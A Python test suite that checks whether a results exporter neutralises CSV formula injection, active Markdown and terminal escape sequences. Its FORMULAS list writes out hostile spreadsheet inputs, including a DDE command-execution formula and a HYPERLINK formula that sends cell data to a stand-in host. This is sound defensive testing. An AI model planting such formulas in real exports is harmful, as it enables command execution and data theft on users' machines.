"""Exports of hostile rows, read back by readers that would act on them."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.hostile import STRINGS
from tests.hostile_screens.payloads import MARKED, PAYLOADS
from tests.support.active import active_markdown
from tui.results.export import FORMATS, Format, write
from tui.terminal.safe_text import HIDDEN

FORMULAS = [
    "=1+1",
    " =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\0=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "＝1+1",
    "x;=1+1;y",
    "x; =1+1",
    'x";=1+1;"',
    "a,=1+1",
    "a\n=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
]
VALUES = ['"=1+1"', *PAYLOADS.values(), *MARKED.values(), *STRINGS.values(), *FORMULAS]
pieces = st.lists(st.sampled_from([*"=+-@＝;,\"' \t\r\n\0\u200bx1", "cmd|", "http://e.com"]), max_size=12).map("".join)


def table(values: list[str]) -> pa.Table:
    """Rows of `values`, and columns named by some of them."""
    return pa.table({"Value": values, "=1+1": values, "a;@x": values, "[/]\x1b]0;evil\x07\u202e<b>": values})


def written(rows: pa.Table, form: Format) -> bytes:
    stream = io.BytesIO()
    write(rows, form, stream)
    return stream.getvalue()


def seen_by_a_spreadsheet(text: str, separator: str) -> list[str]:
    """Every cell that a spreadsheet makes of a file, without what shows nothing at its start."""
    cells = [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for cell in row]
    return [re.sub(rf"\A[\s{HIDDEN}]+", "", cell) for cell in cells]


def formulas(text: str) -> list[str]:
    """The cells of a file that are formulas, whichever sign separates cells."""
    cells = [cell for separator in (",", ";", "\t") for cell in seen_by_a_spreadsheet(text, separator)]
    return [cell for cell in cells if cell.startswith(tuple("=+-@＝＋－＠"))]


def test_the_judge_sees_formulas() -> None:
    for value in FORMULAS:
        assert formulas(written(table([value]), "csv-exact").decode())


def test_csv_for_spreadsheets_holds_no_formula() -> None:
    assert formulas(written(table(VALUES), "csv").decode()) == []


@given(st.lists(pieces, max_size=4))
def test_no_text_becomes_a_formula(values: list[str]) -> None:
    assert formulas(written(table(values), "csv").decode()) == []


def test_csv_for_spreadsheets_keeps_every_row_and_numbers() -> None:
    rows = table(VALUES).append_column("n", pa.array(range(-5, len(VALUES) - 5)))
    read = list(csv.reader(io.StringIO(written(rows, "csv").decode(), newline="")))
    assert len(read) == len(VALUES) + 1
    assert [int(row[-1]) for row in read[1:]] == list(range(-5, len(VALUES) - 5))


def test_exact_forms_give_every_character_back() -> None:
    rows = table(VALUES)
    read = list(csv.reader(io.StringIO(written(rows, "csv-exact").decode(), newline="")))
    assert read == [rows.column_names, *([value] * 4 for value in VALUES)]
    lines = [json.loads(line) for line in written(rows, "jsonl").decode().splitlines()]
    assert lines == rows.to_pylist()
    assert pq.read_table(io.BytesIO(written(rows, "parquet"))) == rows


def test_markdown_does_nothing() -> None:
    assert active_markdown(written(table(VALUES), "markdown").decode()) == []


@given(st.lists(pieces | st.text(st.sampled_from("`|\\<>[]()!*_#@:/.\n\x1b a")), max_size=4))
def test_no_text_becomes_markup(values: list[str]) -> None:
    assert active_markdown(written(table(values), "markdown").decode()) == []


@pytest.mark.parametrize("form", [form for form in FORMATS if form not in ("csv-exact", "parquet")])
def test_a_file_shown_in_a_terminal_does_nothing(form: Format) -> None:
    text = written(table(VALUES), form).decode()
    assert re.search(f"[{HIDDEN}]", text.replace("\r\n", "").replace("\n", "")) is None


def test_no_spreadsheet_file_is_offered() -> None:
    assert not [form for form in FORMATS if "xls" in form]
    assert "xlsx" not in Path(write.__code__.co_filename).read_text(encoding="utf-8").lower()
